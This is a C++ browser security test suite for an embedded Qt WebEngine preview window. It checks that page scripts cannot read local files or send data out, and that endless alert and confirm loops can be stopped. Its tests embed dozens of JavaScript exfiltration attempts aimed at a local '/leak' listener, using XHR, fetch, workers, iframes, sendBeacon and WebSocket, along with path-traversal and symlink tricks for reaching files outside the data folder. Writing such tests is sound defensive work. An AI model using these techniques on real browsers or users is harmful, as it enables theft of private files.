#include "desktop/browser_home.h"
#include "desktop/small_web.h"

#include "browser/forms/frmPrevDiaryViewer.h"

#include <QWebEnginePage>

using namespace Qt::StringLiterals;

namespace velloria::tests {
namespace {

const QByteArray kSecret = "SECRET";
const QByteArray kPicture = QByteArray::fromBase64("R0lGODdhAQABAIAAAP8AAAAAACwAAAAAAQABAAACAkQBADs=");

/// A page in the data folder whose script tries every way to a file, and would carry what it reads to a listener.
class BrowserGuard : public BrowserHome {
protected:
    BrowserGuard() {
        QDir().mkpath(path(u"secret"_s));
        writePage(u"diary.ini"_s, "[ALL]\r\nPass=" + kSecret);
        writePage(u"diary.mdb"_s, kSecret);
        writePage(u"words.txt"_s, "var SECRET = 1; leak('SECRET')");
        writePage(u"rules.txt"_s, "." + kSecret + " { color: red }");
        writeFile(path(u"secret/secret.htm"_s), "<title>secret</title>" + kSecret);
        writeFile(path(u"secret/secret.js"_s), "leak('SECRET')");
        writeFile(path(u"secret/secret.css"_s), "." + kSecret + " { color: red }");
        writeFile(path(u"secret/secret.gif"_s), kPicture);
        QFile::link(path(u"secret/secret.htm"_s), pagePath(u"link.htm"_s));
        QFile::link(pagePath(u"diary.ini"_s), pagePath(u"ini.htm"_s));
        QFile::link(path(u"secret"_s), pagePath(u"folder"_s));
        web.redirects["/redirect"] = address(path(u"secret/secret.htm"_s));
    }

    QByteArray address(const QString& file) const { return QUrl::fromLocalFile(file).toEncoded(); }

    /// Every spelling of a file with text in it, as elements of a list of a script.
    QByteArray secrets() const {
        const QByteArray data = address(session.DataPath);
        const QByteArray outside = address(path(u"secret/secret.htm"_s));
        QList<QByteArray> all{"diary.ini",
                              "./folder/secret.htm",
                              "link.htm",
                              "ini.htm",
                              data + "diary.mdb",
                              outside,
                              "FILE" + outside.sliced(4),
                              "file://localhost" + outside.sliced(7),
                              "file:" + outside.sliced(7),
                              data + "sub/..%2f..%2fsecret/secret.htm",
                              data + "%2e%2e/secret/secret.htm",
                              "view-source:" + outside,
                              "filesystem:" + outside,
                              web.address(u"/redirect"_s).toLatin1()};
        return "['" + all.join("','") + "']";
    }

    /// The same for what takes the engine long: one of each kind.
    QByteArray someSecrets() const {
        return "['diary.ini','ini.htm','folder/secret.htm','" + address(path(u"secret/secret.htm"_s)) + "']";
    }

    /// Opens a page whose script does `attempt` for each `url` of `urls`; it is to call end() in the end, and leak()
    /// with what it could read.
    void attack(const QByteArray& attempt, const QByteArray& urls, const QByteArray& head = {}) {
        web.asked.clear();
        writePage(u"tmp.htm"_s,
                  "<html><head><title>preview</title>" + head + "</head><body>text<script>let open = 1, all = 0;\n" +
                      "const listener = '" + web.address(u"/leak"_s).toLatin1() + "';\n" +
                      "const carry = () => { new Image().src = listener; };\n"
                      "const leak = text => { if (String(text).includes('SECRET')) carry(); };\n"
                      "const end = () => { --open; };\n"
                      "const look = frame => { try { leak(frame.contentDocument.documentElement.outerHTML); } "
                      "catch (error) {} end(); };\n"
                      "for (const url of " +
                      urls + ") { ++open; ++all; try { " + attempt +
                      " } catch (error) { end(); } }\nend();</script></body></html>");
        this->open(pagePath(u"tmp.htm"_s));
        EXPECT_TRUE(waitFor([this] { return run(browser(), u"all"_s).toInt() > 0; }));
        // What is refused does not always say so; what is not refused is there much sooner than this.
        for (int i = 0; i < 20 && run(browser(), u"open"_s).toInt() > 0; ++i)
            QTest::qWait(50);
        waitForOneMorePicture();
        for (const QByteArray& asked : std::as_const(web.asked))
            EXPECT_TRUE(asked == "/redirect" || asked == "/after") << asked.toStdString();
    }
    /// The page asks its web for one more picture: what it had asked for before has come then.
    void waitForOneMorePicture() {
        run(browser(), u"new Image().src = '%1'; 0"_s.arg(web.address(u"/after"_s)));
        EXPECT_TRUE(waitFor([this] { return web.asked.contains("/after"); }));
    }
    void attack(const QByteArray& attempt) { attack(attempt, secrets()); }

    QStringList questions() const { return boxes().filter(u"question: "_s); }

    SmallWeb web;
};

TEST_F(BrowserGuard, LetsNoScriptReadAFile) {
    attack("const x = new XMLHttpRequest(); x.open('GET', url); x.onload = () => leak(x.responseText);"
           "x.onloadend = end; x.send();");
    attack("const x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); leak(x.responseText); end();");
    attack("fetch(url).then(r => r.text()).then(leak).catch(() => {}).finally(end);");
    attack("fetch(url, {mode: 'no-cors'}).then(r => r.text()).then(leak).catch(() => {}).finally(end);");
    attack("const e = new EventSource(url); e.onmessage = m => leak(m.data); e.onerror = () => { e.close(); end(); };");
    attack("import(url).then(m => leak('SECRET')).catch(() => {}).finally(end);");
}

TEST_F(BrowserGuard, LetsNoFrameShowAFileThatIsNoPageBelow) {
    attack("const f = document.createElement('iframe'); f.onload = () => look(f); f.src = url;"
           "document.body.append(f);");
    attack("const f = document.createElement('object'); f.onload = () => look(f); f.onerror = end; f.data = url;"
           "f.type = 'text/html'; document.body.append(f); setTimeout(() => look(f), 400);",
           someSecrets());
    attack(
        "const f = document.createElement('embed'); f.type = 'text/html'; f.src = url; document.body.append(f);"
        "setTimeout(() => { try { leak(f.getSVGDocument().documentElement.outerHTML); } catch (e) {} end(); }, 400);",
        someSecrets());
    attack("const f = document.createElement('iframe'); document.body.append(f);"
           "f.contentDocument.write('<form method=post action=\"' + url + '\"></form>');"
           "f.contentDocument.forms[0].submit(); setTimeout(() => look(f), 400);",
           someSecrets());
    attack("const f = document.createElement('iframe'); document.body.append(f);"
           "f.contentDocument.write('<meta http-equiv=refresh content=\"0;url=' + url + '\">');"
           "f.contentDocument.close(); setTimeout(() => look(f), 400);",
           someSecrets());
    attack("const f = document.createElement('iframe'); document.body.append(f);"
           "f.contentWindow.location = url; setTimeout(() => look(f), 400);",
           someSecrets());
}

TEST_F(BrowserGuard, LetsNoFrameOfItsOwnMakingReadAFile) {
    const QByteArray inside = "const inside = \"<script>fetch('\" + new URL(url, location) + \"').then(r => r.text())"
                              ".then(t => { new Image().src = '\" + listener + \"'; }).catch(() => {})<\\/script>"
                              "<iframe src='\" + url + \"' onload='try { if (this.contentDocument.body.innerText"
                              ".includes(`SECRET`)) new Image().src = `\" + listener + \"` } catch (e) {}'></iframe>\";"
                              "const f = document.createElement('iframe'); f.onload = () => setTimeout(end, 300);";
    attack(inside + "f.src = 'data:text/html,' + encodeURIComponent(inside); document.body.append(f);", someSecrets());
    attack(inside + "f.src = URL.createObjectURL(new Blob([inside], {type: 'text/html'})); document.body.append(f);",
           someSecrets());
    attack(inside + "f.srcdoc = inside; document.body.append(f);", someSecrets());
}

TEST_F(BrowserGuard, LetsNoWorkerReadAFile) {
    attack("const w = new Worker(url); w.onerror = end; w.onmessage = m => leak(m.data);");
    attack("const w = new SharedWorker(url); w.onerror = end;");
    attack("const text = \"fetch('\" + new URL(url, location) + \"').then(r => r.text()).then(t => postMessage(t))"
           ".catch(() => postMessage('no'))\"; const w = new Worker(URL.createObjectURL(new Blob([text])));"
           "w.onmessage = m => { leak(m.data); end(); }; w.onerror = end;");
    attack(
        "const text = \"const x = new XMLHttpRequest(); try { x.open('GET', '\" + new URL(url, location) + \"', false);"
        " x.send(); postMessage(x.responseText); } catch (e) { postMessage('no'); }\";"
        "const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = m => { leak(m.data); end(); };"
        "w.onerror = end;");
    attack("navigator.serviceWorker.register(url).catch(() => {}).finally(end);", "['w.js', 'words.txt']");
}

TEST_F(BrowserGuard, LetsNoStyleOrScriptBeATextThatIsNone) {
    const QByteArray texts = "['rules.txt', 'words.txt', 'diary.ini', '" + address(path(u"secret/secret.css"_s)) +
                             "', '" + address(path(u"secret/secret.js"_s)) +
                             "', 'folder/secret.css', 'folder/secret.js']";
    attack("const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url; l.onerror = end;"
           "l.onload = () => { for (const r of l.sheet.cssRules) leak(r.cssText); end(); }; document.head.append(l);",
           texts);
    attack("const s = document.createElement('style'); s.textContent = '@import url(\"' + url + '\");';"
           "document.head.append(s); setTimeout(() => { try { for (const r of s.sheet.cssRules[0].styleSheet.cssRules)"
           " leak(r.cssText); } catch (e) {} end(); }, 400);",
           texts);
    attack("const s = document.createElement('script'); s.src = url; s.onload = s.onerror = end;"
           "document.head.append(s);",
           texts);
    attack("const l = document.createElement('link'); l.rel = 'preload'; l.as = 'fetch'; l.href = url;"
           "l.onload = () => leak('SECRET'); l.onerror = end; document.head.append(l); setTimeout(end, 400);",
           texts);
}

TEST_F(BrowserGuard, LetsNoPictureOfAnotherFolderShow) {
    attack("const i = new Image(); i.onload = () => { leak('SECRET'); end(); }; i.onerror = end; i.src = url;",
           "['folder/secret.gif', '../secret/secret.gif', '%2e%2e/secret/secret.gif', '" +
               address(path(u"secret/secret.gif"_s)) + "']");
}

TEST_F(BrowserGuard, SendsNothingBehindTheReadersBack) {
    const QByteArray listener = "['" + web.address(u"/leak"_s).toLatin1() + "']";
    attack("navigator.sendBeacon(url, document.body.innerText); end();", listener);
    attack("fetch(url, {method: 'POST', mode: 'no-cors', body: document.body.innerText, keepalive: true})"
           ".catch(() => {}).finally(end);",
           listener);
    attack("const x = new XMLHttpRequest(); x.open('POST', url); x.onloadend = end; x.send('text');", listener);
    attack("const s = new WebSocket(url.replace('http', 'ws')); s.onerror = s.onopen = end;", listener);
    attack("const a = document.createElement('a'); a.href = '#x'; a.ping = url; document.body.append(a); a.click(); "
           "end();",
           listener);
    attack("const w = new Worker(URL.createObjectURL(new Blob([\"fetch('\" + url + \"').catch(() => {})"
           ".finally(() => postMessage(1))\"]))); w.onmessage = end; w.onerror = end;",
           listener);
    attack(
        "const f = document.createElement('iframe'); f.src = 'data:text/html,<script>navigator.sendBeacon(\"' + url +"
        "'\")<\\/script>'; f.onload = () => setTimeout(end, 300); document.body.append(f);",
        listener);
}

TEST_F(BrowserGuard, LeavesThePageWithoutItsScriptForAnotherFile) {
    for (const QByteArray way : {"window.open(url)", "location.href = url", "document.forms[0].submit()"}) {
        writePage(u"tmp.htm"_s, "<title>preview</title><body><form method=post action=\"" +
                                    address(path(u"secret/secret.htm"_s)) + "\"></form>");
        open(pagePath(u"tmp.htm"_s));
        // A window is an empty page of the page that opened it until its own page comes; reading that tells nothing.
        run(browser(), u"var url = '"_s + QString::fromLatin1(address(path(u"secret/secret.htm"_s))) +
                           u"'; const w = "_s + QString::fromLatin1(way) +
                           u"; setInterval(() => { const text = w && w.document.body.innerText; if (text) "
                           "new Image().src = '"_s +
                           web.address(u"/leak"_s) + u"?' + text; }, 5); 0"_s);
        EXPECT_TRUE(becomesTrue(browser(), u"document.title == 'secret' || document.title == 'preview'"_s));
        QTest::qWait(200); // the page after it may ask the web for nothing that would tell the end
        EXPECT_EQ(web.asked.size(), 0) << way.toStdString();
    }
}

TEST_F(BrowserGuard, HoldsForAPageThatAPageMakesOfItself) {
    const QByteArray inside = "<title>made</title><script>let state = 0; const done = () => { ++state; };"
                              "fetch('" +
                              address(pagePath(u"diary.ini"_s)) +
                              "').then(r => r.text()).then(t => { new "
                              "Image().src = '" +
                              web.address(u"/leak"_s).toLatin1() +
                              "'; }).catch(() => {})"
                              ".finally(done); fetch('" +
                              web.address(u"/leak"_s).toLatin1() +
                              "', {mode: 'no-cors'}).catch(() => {}).finally(done);<\\/script>";
    writePage(u"tmp.htm"_s,
              "<script>location = URL.createObjectURL(new Blob([\"" + inside + "\"], {type: 'text/html'}))</script>");
    open(pagePath(u"tmp.htm"_s));
    EXPECT_TRUE(becomesTrue(browser(), u"document.title == 'made' && state == 2"_s));
    EXPECT_TRUE(web.asked.isEmpty());
}

TEST_F(BrowserGuard, StillShowsWhatTheSiteShows) {
    writeFile(pagePath(u"DiaryParts/a.gif"_s), kPicture);
    writePage(u"own.css"_s, "body { color: rgb(1, 2, 3) }");
    writePage(u"own.js"_s, "var own = 'own';");
    writePage(u"left.htm"_s, "<title>left</title>left");
    web.headers = "Content-Type: text/javascript\r\n";
    web.pages["/load/somebody"] = "document.write('<b id=count>3</b>');";
    writePage(u"tmp.htm"_s, "<html><head><link rel=stylesheet href=\"./own.css\"><script src=\"own.js\"></script>"
                            "<script type=\"text/javascript\" src=\"" +
                                web.address(u"/load/somebody"_s).toLatin1() +
                                "\"> </script></head><body><img id=near src=\"./DiaryParts/a.gif\">"
                                "<iframe id=frame src=\"left.htm\"></iframe></body></html>");
    open(pagePath(u"tmp.htm"_s));
    EXPECT_TRUE(becomesTrue(browser(), u"document.getElementById('near').naturalWidth == 1"_s));
    EXPECT_EQ(run(browser(), u"getComputedStyle(document.body).color"_s).toString(), u"rgb(1, 2, 3)"_s);
    EXPECT_EQ(run(browser(), u"own"_s).toString(), u"own"_s);
    EXPECT_EQ(run(browser(), u"document.getElementById('count').innerText"_s).toString(), u"3"_s);
    EXPECT_TRUE(becomesTrue(browser(), u"document.getElementById('frame').contentDocument.title == 'left'"_s));
}

TEST_F(BrowserGuard, LetsItsUserGoFromTheWebToTheDisk) {
    web.pages["/"] = "<title>web</title>";
    writePage(u"tmp.htm"_s, "<title>preview</title>");
    open(web.address());
    open(pagePath(u"tmp.htm"_s));
    EXPECT_EQ(browser().LocationName(), u"preview"_s);
    browser().bDocumentComplete = false;
    viewOf(browser()).back();
    waitForDocument();
    EXPECT_EQ(browser().LocationName(), u"web"_s);
}

TEST_F(BrowserGuard, LetsAFrameOfTheWebAskForItself) {
    web.pages["/frame"] = "<script>fetch('/own').then(() => { document.title = 'x'; })</script>";
    web.pages["/own"] = "own";
    writePage(u"tmp.htm"_s, "<iframe src=\"" + web.address(u"/frame"_s).toLatin1() + "\"></iframe>");
    open(pagePath(u"tmp.htm"_s));
    EXPECT_TRUE(waitFor([this] { return web.asked.contains("/own"); }));
}

TEST_F(BrowserGuard, HoldsForTheOtherWindowsToo) {
    writePage(u"oldtmp.htm"_s, "<body><script>var state = 'none'; fetch('diary.ini').then(r => r.text())"
                               ".then(t => { state = t; new Image().src = '" +
                                   web.address(u"/leak"_s).toLatin1() +
                                   "'; }).catch(() => { state = 'no'; })</script>");
    auto& viewer = context.windows.get<browser::frmPrevDiaryViewer>();
    viewer.showPage(u"caption"_s, pagePath(u"oldtmp.htm"_s));
    EXPECT_TRUE(becomesTrue(viewer, u"typeof state != 'undefined' && state != 'none'"_s));
    EXPECT_EQ(run(viewer, u"state"_s).toString(), u"no"_s);
    EXPECT_TRUE(web.asked.isEmpty());
}

// ---- boxes without end

TEST_F(BrowserGuard, OffersToStopAPageOfBoxes) {
    writePage(u"tmp.htm"_s, "<title>loud</title>text <script>while (true) alert('again');</script>");
    desk.answers = {u"no"_s, u"yes"_s};
    browser().Navigate(pagePath(u"tmp.htm"_s));
    EXPECT_TRUE(waitFor([this] { return desk.answers.isEmpty() && questions().size() == 2; }));
    waitForDocument();
    EXPECT_TRUE(waitFor([this] { return browser().LocationName() == u"loud"_s; }));
    const qsizetype told = boxes().size();
    EXPECT_EQ(told, 8);
    writePage(u"quiet.htm"_s, "<title>quiet</title><script>var works = 1</script>");
    open(pagePath(u"quiet.htm"_s));
    EXPECT_EQ(browser().LocationName(), u"quiet"_s);
    EXPECT_EQ(run(browser(), u"works"_s).toInt(), 1);
    EXPECT_EQ(boxes().size(), told);
}

TEST_F(BrowserGuard, StopsAPageOfQuestionsToo) {
    web.pages["/"] = "<title>loud</title>text <script>while (!confirm('again?'));</script>";
    desk.answers = {u"no"_s, u"no"_s, u"no"_s, u"yes"_s};
    browser().Navigate(web.address());
    EXPECT_TRUE(waitFor([this] { return desk.answers.isEmpty(); }));
    EXPECT_TRUE(waitFor([this] { return browser().LocationName() == u"loud"_s; }));
    EXPECT_TRUE(desk.answers.isEmpty());
    EXPECT_EQ(boxes().size(), 4);
}

TEST_F(BrowserGuard, AsksNothingAboutAPageOfTwoBoxes) {
    writePage(u"tmp.htm"_s, "<script>alert(1); alert(2);</script>");
    for (int i = 0; i < 3; ++i)
        open(pagePath(u"tmp.htm"_s));
    EXPECT_EQ(boxes().size(), 6);
    EXPECT_TRUE(questions().isEmpty());
}

} // namespace
} // namespace velloria::tests
